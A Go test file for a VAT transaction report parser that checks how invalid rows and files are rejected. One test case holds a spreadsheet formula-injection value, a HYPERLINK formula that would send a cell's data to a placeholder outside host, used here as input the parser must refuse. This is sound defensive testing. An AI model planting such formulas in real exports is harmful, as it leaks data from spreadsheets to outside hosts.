package ingest

import (
	"errors"
	"strings"
	"testing"
)

// TestBadRows: each bad row is rejected with a row error naming the
// column and the rule, and the good rows around it still come through.
func TestBadRows(t *testing.T) {
	good := vtrSale("1")
	tests := []struct {
		name   string
		bad    map[string]string
		column string
		reason string
	}{
		{"impossible date", with(vtrSale("2"), "TRANSACTION_COMPLETE_DATE", "31-02-2026"), "TRANSACTION_COMPLETE_DATE", "not a valid date"},
		{"amount in German locale", with(vtrSale("2"), "TOTAL_ACTIVITY_VALUE_AMT_VAT_INCL", "120,00"), "TOTAL_ACTIVITY_VALUE_AMT_VAT_INCL", "number format"},
		{"negative sale", with(vtrSale("2"), "TOTAL_ACTIVITY_VALUE_AMT_VAT_INCL", "-120.00", "TOTAL_ACTIVITY_VALUE_AMT_VAT_EXCL", "-100.00"), "TOTAL_ACTIVITY_VALUE_AMT_VAT_INCL", "negative amount on a sale"},
		{"currency not ISO 4217", with(vtrSale("2"), "TRANSACTION_CURRENCY_CODE", "EUX"), "TRANSACTION_CURRENCY_CODE", "ISO 4217"},
		{"currency in lower case", with(vtrSale("2"), "TRANSACTION_CURRENCY_CODE", "eur"), "TRANSACTION_CURRENCY_CODE", "ISO 4217"},
		{"country that does not exist", with(vtrSale("2"), "SALE_ARRIVAL_COUNTRY", "QQ"), "SALE_ARRIVAL_COUNTRY", "ISO 3166"},
		{"formula in an amount", with(vtrSale("2"), "TOTAL_ACTIVITY_VALUE_AMT_VAT_INCL", `=HYPERLINK("http://x.invalid/?"&A1,"x")`), "TOTAL_ACTIVITY_VALUE_AMT_VAT_INCL", "formula"},
		{"formula in a country", with(vtrSale("2"), "SALE_ARRIVAL_COUNTRY", "@SUM(A1)"), "SALE_ARRIVAL_COUNTRY", "formula"},
		{"formula in a date", with(vtrSale("2"), "TRANSACTION_COMPLETE_DATE", "+1-1"), "TRANSACTION_COMPLETE_DATE", "formula"},
		{"rate as percent", with(vtrSale("2"), "PRICE_OF_ITEMS_VAT_RATE_PERCENT", "19"), "PRICE_OF_ITEMS_VAT_RATE_PERCENT", "rate outside"},
		{"no amount", with(vtrSale("2"), "TOTAL_ACTIVITY_VALUE_AMT_VAT_INCL", "", "TOTAL_ACTIVITY_VALUE_AMT_VAT_EXCL", "", "TOTAL_ACTIVITY_VALUE_VAT_AMT", ""), "TOTAL_ACTIVITY_VALUE_AMT_VAT_INCL", "no amount"},
		{"no type", with(vtrSale("2"), "TRANSACTION_TYPE", ""), "TRANSACTION_TYPE", "missing"},
		{"10 MB in one cell", with(vtrSale("2"), "BUYER_NAME", strings.Repeat("x", 10<<20)), "", "longer than the line limit"},
		{"cell over the cell cap", with(vtrSale("2"), "BUYER_NAME", strings.Repeat("x", 70<<10)), "BUYER_NAME", "cell larger"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			text := vtrText(good, tt.bad, vtrSale("3"))
			rows, bad, s := readAllRows(t, strings.NewReader(text), Options{})
			if len(rows) != 2 || len(bad) != 1 || s.Rows != 3 {
				t.Fatalf("rows %d, row errors %v, summary %+v", len(rows), bad, s)
			}
			e := bad[0]
			if e.Line != 3 || e.Column != tt.column || !strings.Contains(e.Reason, tt.reason) {
				t.Errorf("row error %+v, want line 3 column %q reason ~%q", e, tt.column, tt.reason)
			}
			if strings.Contains(e.Error(), "HYPERLINK") || strings.Contains(e.Error(), "xxxx") {
				t.Errorf("row error repeats the cell: %v", e)
			}
		})
	}
}

// TestBadFiles: files that cannot be read as a whole give a typed file
// error.
func TestBadFiles(t *testing.T) {
	tests := []struct {
		name string
		text string
		want error
	}{
		{"empty", "", ErrNoHeader},
		{"blank lines", "\r\n\n\n", ErrNoHeader},
		{"unknown header", "a,b,c\n1,2,3\n", ErrUnknownFormat},
		{"binary", "\x00\x01\x02\x03garbage\xff\xfe", ErrUnknownFormat},
		{"legacy xls", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", ErrUnsupported},
		{"amazon vcs", "Marketplace ID,Merchant ID,Order Date,Transaction Type,Order ID,Tax Calculation Date,OUR_PRICE Tax Inclusive Selling Price\n", ErrUnsupported},
		{"paypal in Dutch", "Datum,Tijd,Tijdzone,Naam,Type,Status,Valuta,Bruto,Kosten,Net\n", ErrUnsupported},
		{"vtr missing columns", "TRANSACTION_TYPE\tTRANSACTION_EVENT_ID\tACTIVITY_TRANSACTION_ID\tTOTAL_ACTIVITY_VALUE_AMT_VAT_INCL\n", ErrUnknownFormat},
		{"not a zip", "PK\x03\x04 this is no workbook", ErrUnknownFormat},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Open(strings.NewReader(tt.text), Options{})
			if !errors.Is(err, tt.want) {
				t.Fatalf("Open = %v, want %v", err, tt.want)
			}
		})
	}
	t.Run("language error names the language", func(t *testing.T) {
		_, err := Open(strings.NewReader("Date,Heure,Fuseau horaire,Nom,Type,Statut,Devise,Brut\n"), Options{})
		var le *LanguageError
		if !errors.As(err, &le) || le.Language != "French" {
			t.Fatalf("Open = %v, want a LanguageError for French", err)
		}
	})
}

// TestTruncatedAndHeaderOnly: a header without rows is ErrNoData; a file
// cut in the middle of its last row rejects that row only.
func TestTruncatedAndHeaderOnly(t *testing.T) {
	rd, err := Open(strings.NewReader(vtrText()), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := rd.Next(); !errors.Is(err, ErrNoData) {
		t.Errorf("header only: Next = %v, want ErrNoData", err)
	}
	full := vtrText(vtrSale("1"), vtrSale("2"))
	cut := full[:len(full)-len("FRANCE\tUNION-OSS\tSELLER\r\n")-60]
	rows, bad, _ := readAllRows(t, strings.NewReader(cut), Options{})
	if len(rows) != 1 || len(bad) != 1 || bad[0].Line != 3 {
		t.Errorf("truncated: rows %d, row errors %v", len(rows), bad)
	}
}

// TestBrokenQuotes: a quote opened and never closed rejects its own row
// and the rows after it are read again; text after a closing quote is
// read as plain text.
func TestBrokenQuotes(t *testing.T) {
	text := vtrText(vtrSale("1"), with(vtrSale("2"), "BUYER_NAME", `"Unclosed`), vtrSale("3"), vtrSale("4"))
	rows, bad, _ := readAllRows(t, strings.NewReader(text), Options{})
	if len(rows) != 3 || len(bad) != 1 || bad[0].Line != 3 || rows[1].Tx.Line != 4 || rows[2].Tx.Line != 5 {
		t.Errorf("rows %d, row errors %v", len(rows), bad)
	}
	text = vtrText(with(vtrSale("1"), "BUYER_NAME", `"Best" Buyer`))
	rows, bad, _ = readAllRows(t, strings.NewReader(text), Options{})
	if len(rows) != 1 || len(bad) != 0 || rows[0].Tx.Buyer.Name != `"Best" Buyer` {
		t.Errorf("rows %v, row errors %v", rows, bad)
	}
}

// TestMixedFormats: PayPal rows pasted under a VTR header are rejected
// one by one; the VTR rows still come through.
func TestMixedFormats(t *testing.T) {
	text := vtrText(vtrSale("1")) +
		"\"07/01/2026\",\"10:00:00\",\"PDT\",\"Name\",\"Website Payment\",\"Completed\",\"EUR\",\"12.00\"\r\n" +
		vtrText(vtrSale("2"))[len(strings.Join(vtrCols, "\t"))+2:]
	rows, bad, s := readAllRows(t, strings.NewReader(text), Options{})
	if len(rows) != 2 || len(bad) != 1 || s.Rows != 3 {
		t.Errorf("rows %d, row errors %v", len(rows), bad)
	}
}
